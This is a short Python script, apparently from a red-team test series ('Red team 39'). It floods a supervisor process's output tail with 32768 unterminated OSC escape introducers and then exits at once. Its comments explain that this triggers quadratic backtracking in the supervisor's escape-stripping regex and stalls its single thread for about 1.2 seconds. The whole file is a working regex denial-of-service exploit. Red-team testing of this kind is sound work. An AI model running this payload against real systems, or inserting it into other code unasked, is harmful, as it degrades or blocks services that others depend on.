#!/usr/bin/python3
# Red team 39: fill the supervisor's 64 KiB output tail with unterminated OSC introducers
# (ESC ]) and exit at once. The supervisor reads that tail through `screenText` for the failure
# message (`lastLines`), whose /\x1b[\]P_^X][\s\S]*?(?:\x07|\x1b\\)/g rescans the rest of the
# text from every introducer: quadratic, ~1.2 s of its one thread for 64 KiB.
# Usage: osc_tail.py <dir> [sleep seconds before]
import os, sys, time
if len(sys.argv) > 2: time.sleep(float(sys.argv[2]))
os.write(1, b"\x1b]" * 32768)
time.sleep(0.5)
os._exit(1)
